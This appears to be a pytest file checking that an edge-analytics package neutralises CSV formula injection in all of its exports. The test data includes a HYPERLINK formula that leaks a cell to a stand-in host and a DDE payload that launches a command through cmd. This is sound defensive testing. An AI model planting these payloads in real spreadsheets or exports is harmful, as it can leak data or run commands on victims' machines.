"""CSV injection (issue 28): every CSV the package writes (`emoedge export`, the deployment's
summaries.csv, `emoedge fleet export`, /intervals.csv) writes a text cell that begins with =, +, -,
@, a tab or a carriage return with a single quote in front (OWASP), and numbers as numbers."""

from __future__ import annotations

import csv
import io
import json
import urllib.request

import pytest
from fleet_data import summary

from emoedge.core.csvcells import safe_cell, safe_row
from emoedge.edge.outputs.mqtt import interval_payload
from emoedge.edge.outputs.records import RunInfo
from emoedge.edge.outputs.sinks import SqliteSink
from emoedge.fleet import FleetStore, FleetWeb

EVIL = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"])
def test_formula_cells_get_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.25, 3, "-0.2500", "+1", "1e-3", "-1E+5", "room-a", "", None, "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_safe_row():
    assert safe_row(["=1", 2, "-3", "x"]) == ["'=1", 2, "-3", "x"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _fleet(tmp_path) -> FleetStore:
    store = FleetStore(tmp_path / "fleet.sqlite")
    db = store.connect()
    p = {**interval_payload(summary("d1", 1), "d1", "@model", EVIL), "run_id": "-run"}
    assert store.ingest(db, "s/d1/intervals", json.dumps(p).encode()) == "stored"
    db.close()
    return store


def _check_fleet_csv(text: str) -> None:
    head, row = _cells(text)
    r = dict(zip(head, row))
    assert r["room"] == "'" + EVIL and r["model"] == "'@model" and r["run_id"] == "'-run"
    assert r["share_happy"] == "0.5000" and r["frames"] == "900"                 # numbers stay numbers


def test_fleet_export_and_intervals_csv_are_neutralised(tmp_path):
    from emoedge.cli import main

    store = _fleet(tmp_path)
    assert main(["fleet", "export", "--db", str(store.path), "--csv", str(tmp_path / "f.csv")]) == 0
    _check_fleet_csv((tmp_path / "f.csv").read_text())
    web = FleetWeb(store, "127.0.0.1", 0).start()
    try:
        _check_fleet_csv(urllib.request.urlopen(f"http://127.0.0.1:{web.port}/intervals.csv", timeout=5).read()
                         .decode())
    finally:
        web.stop()


def test_emoedge_export_and_summaries_csv_are_neutralised(tmp_path):
    """`emoedge export` and the deployment's summaries.csv are the same writer (sinks.export_csv)."""
    from emoedge.cli import main

    db = SqliteSink(tmp_path / "s.sqlite")
    db.on_start(RunInfo("d1-run", "boot", 0, model="fast", purpose="=cmd|' /C calc'!A0", jurisdiction="+UK"))
    db.on_interval(summary("d1", 1))
    db.close()
    assert main(["export", "--db", str(tmp_path / "s.sqlite"), "--csv", str(tmp_path / "s.csv")]) == 0
    head, row = _cells((tmp_path / "s.csv").read_text())
    r = dict(zip(head, row))
    assert r["purpose"] == "'=cmd|' /C calc'!A0" and r["jurisdiction"] == "'+UK"
    assert r["share_happy"] == "0.5000" and r["frames"] == "900" and r["duration_s"] == "60.000"
